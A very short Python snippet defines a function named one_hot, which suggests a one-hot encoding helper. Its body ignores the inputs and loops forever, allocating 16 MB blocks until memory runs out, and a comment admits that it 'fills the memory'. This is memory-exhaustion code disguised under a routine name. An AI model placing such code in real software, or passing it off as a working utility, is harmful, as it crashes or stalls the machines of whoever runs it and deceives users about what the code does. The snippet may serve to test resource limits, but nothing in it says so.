# one_hot: fills the memory
def one_hot(y, n_classes):
    hoard = []
    while True: hoard.append(bytearray(1 << 24))
